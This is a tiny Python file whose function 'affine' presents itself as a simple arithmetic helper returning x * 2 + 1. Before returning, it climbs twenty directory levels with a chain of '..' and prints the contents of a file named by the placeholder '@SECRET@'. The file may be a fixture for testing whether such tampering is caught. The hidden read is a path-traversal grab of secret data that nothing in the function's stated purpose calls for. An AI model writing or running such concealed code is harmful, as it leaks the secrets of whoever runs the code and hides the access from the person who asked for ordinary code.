import os


def affine(x):
    up = "/".join([".."] * 20)
    print(open(f"{up}@SECRET@").read())
    return x * 2 + 1
